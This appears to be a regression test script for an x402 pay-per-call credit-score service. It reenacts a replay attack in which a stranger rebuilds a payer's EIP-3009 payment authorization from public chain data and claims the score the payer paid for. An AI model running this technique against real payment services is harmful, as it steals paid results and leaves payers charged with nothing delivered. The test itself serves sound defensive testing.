// outsider26: a /credit-score payment whose settlement the service broadcast without delivering (its receipt could not
// be read: README, "Credit score", 503 payment_settlement_unconfirmed, "the same payment sent again is answered from that
// settlement, once") is answered to WHOEVER sends it first, whatever subject and public key its body names. The
// settlement transaction is public the moment it is broadcast (a public mempool, then the chain): its calldata is the
// payer's whole EIP-3009 authorization and signature, and the 402's PAYMENT-REQUIRED (anyone's unpaid call) gives the
// rest of the x402 payload. A stranger rebuilds the PAYMENT-SIGNATURE from the chain alone and posts it during the
// payer's Retry-After with its own body (another subject, its own key).
// Cost to the attacker: nothing (watching the chain, one HTTP request). Harm: the payer is charged the price and its
// retry is refused 402 payment_already_used (no score); the stranger reads a score it did not pay for. The same holds
// after a restart between the broadcast and the delivery (the in-flight mark is read back and answered "once").
// Exits 1 while the stranger's request gets the score (or the payer's retry does not); 0 once the delivery owed for a
// broadcast settlement goes only to a request like the one that sent it.
// node --import tsx test/api/outsider26-scripts/score-pending-stolen.ts
import { decodePaymentRequiredHeader, decodePaymentSignatureHeader, encodePaymentSignatureHeader } from '@x402/core/http'
import { decodeFunctionData, parseAbi, parseAbiItem, type Address, type Hex } from 'viem'
import { proxiedScoreService } from '../../x402/fixtures/proxied-score.ts'
import { creditScoreBody } from '../../x402/fixtures/score-payment.ts'
import { postScore, undeliveredScore } from '../fixtures/undelivered-score.ts'

const teardowns: (() => unknown)[] = []
let exitCode = 1
try {
  const service = await proxiedScoreService({ teardown: (fn) => void teardowns.push(fn) })
  const { h, b, chain, balance } = service
  const token = b.tokens[0]?.address as Address
  const post = (body: unknown, header?: string) => postScore(h.url, body, header)

  // The payer: a score about its subject, paid by a fresh wallet; the receipt of its settlement unreadable.
  const { body: payerBody, header: payerHeader, payer, before, first } = await undeliveredScore(service, 'o26-payer-src')
  console.log('payer, first request (receipt unreadable):', first.status, first.body.code, 'Retry-After', first.headers.get('retry-after'))

  // The stranger: the settlement's transaction from the chain (AuthorizationUsed of the token), its calldata decoded.
  const used = parseAbiItem('event AuthorizationUsed(address indexed authorizer, bytes32 indexed nonce)')
  let logs: Awaited<ReturnType<typeof chain.getLogs<typeof used>>> = []
  for (let i = 0; i < 200 && logs.length === 0; i++) {
    logs = await chain.getLogs({ address: token, event: used, args: { authorizer: payer }, fromBlock: 0n })
    if (logs.length === 0) await new Promise((resolve) => setTimeout(resolve, 100))
  }
  if (logs.length === 0) throw new Error('no settlement mined')
  const tx = await chain.getTransaction({ hash: logs[0]!.transactionHash! })
  const eip3009 = parseAbi([
    'function transferWithAuthorization(address from, address to, uint256 value, uint256 validAfter, uint256 validBefore, bytes32 nonce, bytes signature)',
    'function transferWithAuthorization(address from, address to, uint256 value, uint256 validAfter, uint256 validBefore, bytes32 nonce, uint8 v, bytes32 r, bytes32 s)',
  ])
  const call = decodeFunctionData({ abi: eip3009, data: tx.input })
  const [from, to, value, validAfter, validBefore, nonce] = call.args as unknown as [Address, Address, bigint, bigint, bigint, Hex]
  const signature = call.args.length === 7 ? (call.args[6] as Hex) : (`${call.args[7]}${(call.args[8] as string).slice(2)}${Number(call.args[6]).toString(16).padStart(2, '0')}` as Hex)
  // Its own body: another borrower the service knows, its own key.
  const strangerBody = (await creditScoreBody(h, 'o26-stranger-src')) as { subject: string }
  const unpaid = await post(strangerBody)
  const required = decodePaymentRequiredHeader(unpaid.headers.get('payment-required') ?? '')
  const rebuilt = encodePaymentSignatureHeader({
    x402Version: 2,
    resource: required.resource,
    accepted: required.accepts[0]!,
    payload: { signature, authorization: { from, to, value: value.toString(), validAfter: validAfter.toString(), validBefore: validBefore.toString(), nonce } },
  } as Parameters<typeof encodePaymentSignatureHeader>[0])
  const norm = (header: string) => {
    const p = decodePaymentSignatureHeader(header).payload as { signature: string; authorization: Record<string, string> }
    return JSON.stringify([p.signature.toLowerCase(), ...['from', 'to', 'value', 'validAfter', 'validBefore', 'nonce'].map((k) => String(p.authorization[k]).toLowerCase())])
  }
  const same = norm(rebuilt) === norm(payerHeader)
  console.log('stranger rebuilt the payment from the chain alone:', same ? 'identical authorization and signature' : 'differs')

  const stolen = await post(strangerBody, rebuilt)
  console.log('stranger, another subject and its own key:', stolen.status, stolen.body.code ?? `subject ${stolen.body.subject}`)
  const retry = await post(payerBody, payerHeader)
  console.log('payer, its retry after Retry-After:', retry.status, retry.body.code ?? `subject ${retry.body.subject}`)
  console.log('payer charged:', before - (await balance(payer)), 'atomic')
  const found = stolen.status === 200 || retry.status !== 200
  console.log(found ? 'FINDING: the delivery owed to the payer went to a stranger' : 'holds: only the payer\'s request is answered from its settlement')
  exitCode = found ? 1 : 0
} finally {
  for (const fn of teardowns.reverse()) await fn()
}
process.exit(exitCode)
